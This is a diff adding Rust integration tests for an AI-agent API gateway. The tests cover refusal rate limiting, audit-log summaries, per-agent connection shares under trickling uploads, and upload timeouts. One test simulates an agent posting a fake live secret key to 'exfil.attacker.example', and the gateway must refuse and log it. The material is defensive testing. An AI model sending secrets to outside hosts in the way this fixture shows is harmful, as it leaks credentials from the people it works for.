@@ -797,3 +797,393 @@ async fn an_idle_websocket_holds_a_connection_slot_until_tunnel_idle_timeout() {
         .collect();
     assert_eq!(outcomes.len(), 3, "each WebSocket's outcome says it was closed for idleness");
 }
+
+/// Sends `n` requests on `lanes` connections at once (each lane one after the other), built by
+/// `req(i)`, and returns (i, status, x-uapk-request-id) of each.
+async fn concurrently(
+    lanes: usize,
+    n: usize,
+    req: impl Fn(usize) -> reqwest::RequestBuilder + Send + Sync + 'static,
+) -> Vec<(usize, u16, Option<String>)> {
+    let req = std::sync::Arc::new(req);
+    let tasks: Vec<_> = (0..lanes)
+        .map(|lane| {
+            let req = req.clone();
+            tokio::spawn(async move {
+                let mut out = Vec::new();
+                for i in (lane..n).step_by(lanes) {
+                    let r = req(i).send().await.unwrap();
+                    let id = r.headers().get("x-uapk-request-id").and_then(|v| v.to_str().ok()).map(str::to_string);
+                    out.push((i, r.status().as_u16(), id));
+                }
+                out
+            })
+        })
+        .collect();
+    let mut all = Vec::new();
+    for t in tasks {
+        all.extend(t.await.unwrap());
+    }
+    all
+}
+
+/// The refusal summaries of `agent` in the log.
+fn summaries_of(entries: &[Value], agent: &str) -> Vec<Value> {
+    entries
+        .iter()
+        .filter(|e| e["kind"] == "decision" && e["reasons"][0]["code"] == "refusals_rate_limited")
+        .filter(|e| e["agent"] == agent)
+        .cloned()
+        .collect()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_refused_exfiltration_and_payment_inside_a_refusal_flood_are_named_in_the_summary() {
+    let up = Upstream::start().await;
+    let gw = TestGateway::start(
+        &[("flood.yaml", manifest("flood-agent", up.addr, POLICY, ""))],
+        "limits:\n  refusals_per_agent: 1/m\n  refusals_burst: 10\n",
+    )
+    .await;
+    let tok = token("flood-agent");
+
+    // 150 junk refusals (the burst recorded, the rest summarised, each answered after a pause).
+    let (proxy, t) = (gw.proxy, tok.clone());
+    let junk = concurrently(50, 150, move |i| {
+        client().get(format!("http://{proxy}/shop/v1/nothing/{i}")).header("x-uapk-capability", &t)
+    })
+    .await;
+    assert_eq!(junk.iter().filter(|(_, s, _)| *s == 403).count(), 10, "the burst is recorded one by one");
+    assert_eq!(junk.iter().filter(|(_, s, _)| *s == 429).count(), 140);
+
+    // Then an exfiltration through the explicit proxy to a host no connector allows...
+    let secret = format!("secret=sk_live_{}", "9".repeat(40));
+    let r = proxied_client(&gw, Some(&tok))
+        .post(format!("http://exfil.attacker.example/collect?{secret}"))
+        .body("stolen")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 429);
+    let exfil_id = r.headers()["x-uapk-request-id"].to_str().unwrap().to_string();
+    let body: Value = r.json().await.unwrap();
+    assert_eq!(body["error"]["code"], "refusals_rate_limited");
+    // ...and a refund to a denied counterparty.
+    let r = client()
+        .post(gw.base("/shop/v1/refunds"))
+        .header("x-uapk-capability", &tok)
+        .header("x-country", "US")
+        .json(&serde_json::json!({"amount": 12, "currency": "USD", "customer": "cus_blocked"}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 429);
+    let refund_id = r.headers()["x-uapk-request-id"].to_str().unwrap().to_string();
+    assert_eq!(up.count(), 0, "nothing was forwarded");
+
+    // Summaries are written at most once a second.
+    tokio::time::sleep(Duration::from_millis(1500)).await;
+    let entries = gw.entries();
+    assert!(
+        !entries.iter().any(|e| e["request_id"] == exfil_id.as_str() || e["request_id"] == refund_id.as_str()),
+        "summarised, not recorded one by one"
+    );
+    let summaries = summaries_of(&entries, "flood-agent");
+    let tuples: Vec<&Value> = summaries.iter().flat_map(|s| s["tuples"].as_array().unwrap()).collect();
+    // The exfiltration: its host, path and query, under the id its 429 carried.
+    let x = tuples.iter().find(|t| t["host"] == "exfil.attacker.example").expect("the exfiltration host is named");
+    assert_eq!(
+        (x["code"].as_str(), x["method"].as_str(), x["path"].as_str(), x["query"].as_str()),
+        (Some("host_not_allowed"), Some("POST"), Some("/collect"), Some(secret.as_str()))
+    );
+    assert_eq!((x["first_request_id"].as_str(), x["count"].as_str()), (Some(exfil_id.as_str()), Some("1")));
+    // The refund: its counterparty and the rest of its params.
+    let p = tuples
+        .iter()
+        .find(|t| t["code"] == "counterparty_denied")
+        .unwrap_or_else(|| panic!("the denied refund is listed: {tuples:?}"));
+    assert_eq!(
+        (p["connector"].as_str(), p["action"].as_str(), p["path"].as_str()),
+        (Some("shop"), Some("payment.refund"), Some("/v1/refunds"))
+    );
+    assert_eq!(p["params"]["counterparty"], "cus_blocked");
+    assert_eq!((p["params"]["currency"].as_str(), p["params"]["jurisdiction"].as_str()), (Some("USD"), Some("US")));
+    assert_eq!(p["first_request_id"], refund_id.as_str());
+    // The junk: one tuple per summary, counting every summarised junk refusal.
+    let junk_counted: u64 = tuples.iter().filter(|t| t["code"] == "route_not_allowed").map(|t| num(&t["count"])).sum();
+    assert_eq!(junk_counted, 140);
+    for s in &summaries {
+        assert_eq!(s["dropped_tuples"], "0");
+        let listed: u64 = s["tuples"].as_array().unwrap().iter().map(|t| num(&t["count"])).sum();
+        assert_eq!(listed, num(&s["count"]), "every refusal of the summary is in one of its tuples");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn distinct_refusals_beyond_the_entry_bound_are_counted_as_dropped_tuples() {
+    let up = Upstream::start().await;
+    let gw = TestGateway::start(
+        &[("flood.yaml", manifest("flood-agent", up.addr, POLICY, ""))],
+        "limits:\n  refusals_per_agent: 1/m\n  refusals_burst: 1\n",
+    )
+    .await;
+    let tok = token("flood-agent");
+    let label = "l".repeat(60);
+    let query = format!("q={}", "v".repeat(900));
+    // 121 refusals to distinct hosts with 900-byte queries: far more than 16 KiB of tuples.
+    let (proxy, t, l, q) = (gw.proxy, tok.clone(), label.clone(), query.clone());
+    let sent = concurrently(60, 121, move |i| {
+        let c = reqwest::Client::builder()
+            .proxy(reqwest::Proxy::http(format!("http://agent:{t}@{proxy}")).unwrap())
+            .build()
+            .unwrap();
+        c.get(format!("http://h{i}.{l}.{l}.example/x?{q}"))
+    })
+    .await;
+    let limited: HashMap<String, usize> =
+        sent.iter().filter(|(_, s, _)| *s == 429).map(|(i, _, id)| (id.clone().unwrap(), *i)).collect();
+    assert_eq!(limited.len(), 120);
+    tokio::time::sleep(Duration::from_millis(1500)).await;
+
+    let db = gw.gateway().db.get().unwrap();
+    let raw = uapk_gateway::audit::read_entries(&db, 0, 100_000).unwrap();
+    let mut dropped_total = 0;
+    let mut listed_total = 0;
+    for (_, bytes) in &raw {
+        let e: Value = serde_json::from_slice(bytes).unwrap();
+        if e["reasons"][0]["code"] != "refusals_rate_limited" {
+            continue;
+        }
+        assert!(bytes.len() <= 16 * 1024, "a summary entry of {} bytes", bytes.len());
+        assert!(e.get("truncated").is_none_or(|t| t.as_object().unwrap().keys().all(|k| k.starts_with("tuples."))));
+        let tuples = e["tuples"].as_array().unwrap();
+        for t in tuples {
+            // Each listed tuple is the refusal its first request id names, whole.
+            let i = limited[t["first_request_id"].as_str().unwrap()];
+            assert_eq!(t["host"], format!("h{i}.{label}.{label}.example").as_str());
+            assert_eq!((t["query"].as_str(), t["count"].as_str()), (Some(query.as_str()), Some("1")));
+        }
+        let dropped = num(&e["dropped_tuples"]);
+        // One refusal per host: what is not listed is dropped.
+        assert_eq!(tuples.len() as u64 + dropped, num(&e["count"]));
+        dropped_total += dropped;
+        listed_total += tuples.len() as u64;
+    }
+    assert_eq!(listed_total + dropped_total, 120);
+    assert!(dropped_total > 0 && listed_total > 0, "{listed_total} listed, {dropped_total} dropped");
+}
+
+/// `manifest` with one more route on connector `shop`: `PUT /v1/files/**` (`files.upload`),
+/// which reads no params, so its body streams to the upstream as it arrives.
+fn upload_manifest(agent: &str, upstream: SocketAddr) -> String {
+    manifest(agent, upstream, POLICY, "").replace(
+        "      - methods: [GET]\n        path: /v1/charges/**",
+        "      - methods: [PUT]\n        path: /v1/files/**\n        action: files.upload\n      - methods: [GET]\n        path: /v1/charges/**",
+    )
+}
+
+/// Reads what the peer sends until it closes the connection (or `within` passes): the bytes,
+/// and whether it closed.
+async fn read_until_closed(s: &mut TcpStream, within: Duration) -> (String, bool) {
+    let mut out = Vec::new();
+    let mut buf = [0u8; 4096];
+    let until = Instant::now() + within;
+    loop {
+        match tokio::time::timeout(until.saturating_duration_since(Instant::now()), s.read(&mut buf)).await {
+            Ok(Ok(0)) | Ok(Err(_)) => return (String::from_utf8_lossy(&out).into_owned(), true),
+            Ok(Ok(n)) => out.extend_from_slice(&buf[..n]),
+            Err(_) => return (String::from_utf8_lossy(&out).into_owned(), false),
+        }
+    }
+}
+
+/// The record index of a raw HTTP/1.1 response.
+fn record_of(response: &str) -> Option<u64> {
+    response.lines().find_map(|l| l.strip_prefix("x-uapk-record: ")).and_then(|v| v.trim().parse().ok())
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn one_agents_trickling_uploads_take_only_its_share_of_connections() {
+    let up = Upstream::start().await;
+    let gw = TestGateway::start(
+        &[
+            ("flood.yaml", upload_manifest("flood-agent", up.addr)),
+            ("calm.yaml", upload_manifest("calm-agent", up.addr)),
+        ],
+        "limits:\n  max_connections: 100\n  body_read_timeout: 5s\n  header_read_timeout: 5s\n",
+    )
+    .await;
+    assert_eq!(gw.gateway().in_flight.max(), 50, "the default is half of max_connections");
+    let (flood_tok, calm_tok) = (token("flood-agent"), token("calm-agent"));
+
+    // 100 uploads that announce 1 MB and send a byte at a time.
+    let mut uploads = Vec::new();
+    for i in 0..100 {
+        let mut s = TcpStream::connect(gw.proxy).await.unwrap();
+        let head = format!(
+            "PUT /shop/v1/files/f{i} HTTP/1.1\r\nHost: shop.test\r\nx-uapk-capability: {flood_tok}\r\ncontent-length: 1000000\r\n\r\nx"
+        );
+        s.write_all(head.as_bytes()).await.unwrap();
+        uploads.push(s);
+    }
+    // Those beyond the agent's share are answered 429 at once, recorded, and closed; the
+    // others keep their connection (the upstream is still reading their bodies).
+    let mut held = Vec::new();
+    let mut refused = Vec::new();
+    let watchers: Vec<_> = uploads
+        .into_iter()
+        .map(|mut s| {
+            tokio::spawn(async move {
+                let (resp, closed) = read_until_closed(&mut s, Duration::from_secs(3)).await;
+                (s, resp, closed)
+            })
+        })
+        .collect();
+    for w in watchers {
+        let (s, resp, closed) = w.await.unwrap();
+        if resp.is_empty() && !closed {
+            held.push(s);
+        } else {
+            assert!(closed, "a refused upload's connection is closed: {resp}");
+            refused.push(resp);
+        }
+    }
+    assert_eq!((held.len(), refused.len()), (50, 50));
+    let entries = gw.entries();
+    for resp in &refused {
+        assert!(resp.starts_with("HTTP/1.1 429"), "{resp}");
+        assert!(resp.to_ascii_lowercase().contains("connection: close"), "{resp}");
+        assert!(resp.contains("too_many_requests_in_flight"), "{resp}");
+        let idx = record_of(resp).expect("recorded");
+        let e = entries.iter().find(|e| e["idx"] == idx.to_string().as_str()).unwrap();
+        assert_eq!(
+            (e["agent"].as_str(), e["reasons"][0]["code"].as_str()),
+            (Some("flood-agent"), Some("too_many_requests_in_flight"))
+        );
+        // Refused as soon as the agent is known: before its connector strips the base path.
+        assert!(e["path"].as_str().unwrap().starts_with("/shop/v1/files/f"), "{e}");
+    }
+
+    // While the 50 uploads trickle on, the other agent is served, and the flooding agent's
+    // next request is refused the same way.
+    let trickle = tokio::spawn(async move {
+        for _ in 0..12 {
+            for s in held.iter_mut() {
+                let _ = s.write_all(b"x").await;
+            }
+            tokio::time::sleep(Duration::from_millis(250)).await;
+        }
+        held
+    });
+    let mut served = 0;
+    while !trickle.is_finished() {
+        let r = client()
+            .put(gw.base("/shop/v1/files/calm"))
+            .header("x-uapk-capability", &calm_tok)
+            .body("calm upload")
+            .timeout(Duration::from_secs(2))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(r.status(), 200, "the other agent is served");
+        served += 1;
+        let r = client()
+            .get(gw.base("/shop/v1/charges/ch_1"))
+            .header("x-uapk-capability", &flood_tok)
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(r.status(), 429);
+        assert_eq!(r.headers()["connection"], "close");
+        assert!(r.headers().get("x-uapk-record").is_some(), "recorded");
+        let body: Value = r.json().await.unwrap();
+        assert_eq!(body["error"]["code"], "too_many_requests_in_flight");
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
+    assert!(served >= 3, "{served}");
+    assert_eq!(gw.gateway().in_flight.in_flight("flood-agent"), 50);
+    // The agent goes away: its slots come back.
+    drop(trickle.await.unwrap());
+    let t = Instant::now();
+    while gw.gateway().in_flight.in_flight("flood-agent") > 0 {
+        assert!(
+            t.elapsed() < Duration::from_secs(5),
+            "{} slots still held",
+            gw.gateway().in_flight.in_flight("flood-agent")
+        );
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    let r =
+        client().get(gw.base("/shop/v1/charges/ch_1")).header("x-uapk-capability", &flood_tok).send().await.unwrap();
+    assert_eq!(r.status(), 200);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_streamed_upload_that_stalls_is_cut_and_its_outcome_says_body_timeout() {
+    // A raw upstream that reports every byte it received once its peer closes.
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let raw = listener.local_addr().unwrap();
+    let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel::<(Vec<u8>, Duration)>();
+    tokio::spawn(async move {
+        while let Ok((mut s, _)) = listener.accept().await {
+            let tx = tx.clone();
+            tokio::spawn(async move {
+                let (mut got, mut buf, since) = (Vec::new(), [0u8; 4096], Instant::now());
+                while let Ok(n) = s.read(&mut buf).await {
+                    if n == 0 {
+                        break;
+                    }
+                    got.extend_from_slice(&buf[..n]);
+                }
+                let _ = tx.send((got, since.elapsed()));
+            });
+        }
+    });
+    let gw = TestGateway::start(
+        &[("up.yaml", upload_manifest("up-agent", raw))],
+        "limits:\n  body_read_timeout: 1s\n  upstream_timeout: 30s\n",
+    )
+    .await;
+    let tok = token("up-agent");
+    let mut s = TcpStream::connect(gw.proxy).await.unwrap();
+    let started = Instant::now();
+    s.write_all(
+        format!(
+            "PUT /shop/v1/files/big HTTP/1.1\r\nHost: shop.test\r\nx-uapk-capability: {tok}\r\ncontent-length: 1000\r\n\r\nhello"
+        )
+        .as_bytes(),
+    )
+    .await
+    .unwrap();
+    // Then nothing: cut after body_read_timeout.
+    let (resp, closed) = read_until_closed(&mut s, Duration::from_secs(5)).await;
+    let took = started.elapsed();
+    assert!(resp.starts_with("HTTP/1.1 408"), "{resp}");
+    assert!(resp.contains("\"body_timeout\""), "{resp}");
+    assert!(closed, "the connection is closed");
+    assert!(took >= Duration::from_millis(900) && took < Duration::from_secs(4), "cut after {took:?}");
+    // The upstream request was aborted mid-body: headers and the five bytes, then the close.
+    let (got, _) = tokio::time::timeout(Duration::from_secs(5), rx.recv()).await.unwrap().unwrap();
+    let got = String::from_utf8_lossy(&got).into_owned();
+    let (head, body) = got.split_once("\r\n\r\n").expect("the upstream saw the request head");
+    assert!(head.to_ascii_lowercase().contains("content-length: 1000"), "{head}");
+    assert_eq!(body, "hello", "the upstream saw an incomplete body");
+
+    // The outcome entry says so.
+    let record = record_of(&resp).expect("the decision's record");
+    let is_outcome = |e: &Value| e["kind"] == "outcome" && e["decision_idx"] == record.to_string().as_str();
+    let waited = Instant::now();
+    let outcome = loop {
+        // (Written after the answer, without waiting for the commit.)
+        if let Some(o) = gw.entries().into_iter().find(is_outcome) {
+            break o;
+        }
+        assert!(waited.elapsed() < Duration::from_secs(5), "no outcome entry for {record}");
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    };
+    assert_eq!(outcome["request_body_error"], "body_timeout");
+    assert_eq!(outcome["status"], "408");
+    assert_eq!(outcome["request_body_complete"], false);
+    assert_eq!(outcome["request_body_len"], "5");
+    assert!(outcome["error"].as_str().unwrap().contains("limits.body_read_timeout"), "{outcome}");
+}
